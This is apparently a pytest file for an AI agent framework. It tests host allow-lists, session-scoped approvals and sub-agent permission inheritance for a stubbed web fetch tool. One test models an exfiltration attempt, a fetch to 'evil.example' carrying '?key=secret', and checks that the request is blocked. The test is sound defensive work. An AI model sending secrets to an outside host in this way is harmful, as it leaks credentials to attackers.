"""Hosts that an agent reaches: those of its file, those that the person allowed, in auto all."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest

from axe_nb import Agent, call
from axe_nb.agents.agent_tables import SubAgentsConfig
from axe_nb.builtin.web import TOOLS
from axe_nb.engine.person import Decision
from axe_nb.messages import ToolCall
from axe_nb.session.session import Session
from axe_nb.tools.tool import ToolContext
from tests.delegation.approvals import MODES, Person, run_with
from tests.delegation.copies import told
from tests.engine.in_process import agent, said, stage

YES = Decision("yes")


class Web:
    """A `fetch` that notes what would be sent; its guard is the real one."""

    def __init__(self) -> None:
        self.sent: list[str] = []
        self.tool = replace(TOOLS["fetch"], fn=self.run)

    async def run(self, ctx: ToolContext, arguments: Mapping[str, Any]) -> str:
        self.sent.append(arguments["url"])
        return "a page"


def fetch(host: str, path: str = "") -> ToolCall:
    return call("fetch", url=f"https://{host}/{path}")


def reader(*calls: ToolCall, **fields: Any) -> Agent:
    return agent("lead", said(list(calls), "done"), tools=("fetch",), **fields)


def attempt(
    web: Web, *agents: Agent, person: Person | None = None, session: Session | None = None
) -> Any:
    return run_with(person, *agents, tools=(web.tool,), session=session)


@pytest.mark.req("D-50")
@pytest.mark.parametrize("mode", ["plan", "ask"])
def test_nothing_is_sent_where_nobody_can_be_asked_and_the_key_is_named(mode: Any) -> None:
    web = Web()
    result = attempt(web, reader(fetch("evil.example", "?key=secret"), mode=mode))
    assert web.sent == []
    assert told(result) == (
        "Error: permission denied for fetch: connecting to evil.example needs approval, and no one "
        'can be prompted here; set allowed_hosts = ["evil.example"] in agent "lead"'
    )


@pytest.mark.req("D-50")
@pytest.mark.parametrize("mode", MODES)
def test_allowed_hosts_are_reached_without_asking(mode: Any) -> None:
    web = Web()
    calls = (fetch("docs.python.org", "a"), fetch("DOCS.python.org.", "b"), fetch("x.example"))
    attempt(web, reader(*calls, mode=mode, allowed_hosts=("*.python.org",)))
    assert len(web.sent) == (3 if mode == "auto" else 2)


@pytest.mark.req("D-50")
@pytest.mark.parametrize("mode", ["plan", "ask"])
def test_a_yes_holds_for_the_host_until_the_session_ends(mode: Any) -> None:
    web, person = Web(), Person(YES, Decision("no"))
    lead = reader(fetch("a.example"), fetch("a.example", "2"), fetch("b.example"), mode=mode)
    session = stage(lead).session
    attempt(web, lead, person=person, session=session)
    assert web.sent == ["https://a.example/", "https://a.example/2"]
    assert [q.host for q in person.questions] == ["a.example", "b.example"]
    attempt(web, lead, person=(again := Person(Decision("no"))), session=session)
    assert [q.host for q in again.questions] == ["b.example"]
    session.hosts.clear()
    last = Person(*[Decision("no")] * 3)
    attempt(web, lead, person=last, session=session)
    assert len(last.questions) == 3


@pytest.mark.req("D-50", "D-47")
def test_a_childs_file_opens_no_host_that_its_callers_does_not() -> None:
    fields = {"tools": ("fetch",), "allowed_hosts": ("*",), "mode": "auto"}
    child = agent("child", said(fetch("a.example"), "done"), **fields)

    def outcome(**fields: Any) -> tuple[Any, Web]:
        web = Web()
        ask = call("call_agent", agent="child", task="go")
        lead = agent("lead", said(ask, "done"), sub_agents=("child",), **fields)
        return attempt(web, lead, child, person=Person(YES)), web

    result, web = outcome(mode="ask")
    assert web.sent == []
    assert told(result.children[0]).endswith(
        'sub-agents cannot ask; set allowed_hosts = ["a.example"] in agent "lead"'
    )
    assert outcome(mode="ask", allowed_hosts=("a.example",))[1].sent
    assert outcome(mode="ask", sub_agents_config=SubAgentsConfig(ask="person"))[1].sent
    assert outcome(mode="auto")[1].sent


@pytest.mark.req("D-50", "D-56")
def test_two_children_at_the_same_time_ask_for_a_host_once() -> None:
    web, person = Web(), Person(YES, YES, seconds=0.05)
    children = [
        agent(name, said(fetch("a.example", name), "done"), tools=("fetch",)) for name in ("a", "b")
    ]
    ask = [call("call_agent", agent=name, task="go") for name in ("a", "b")]
    lead = agent(
        "lead", said(ask, "done"), sub_agents=("a", "b"),
        sub_agents_config=SubAgentsConfig(ask="person"),
    )  # fmt: skip
    attempt(web, lead, *children, person=person)
    assert sorted(web.sent) == ["https://a.example/a", "https://a.example/b"]
    assert [question.host for question in person.questions] == ["a.example"]
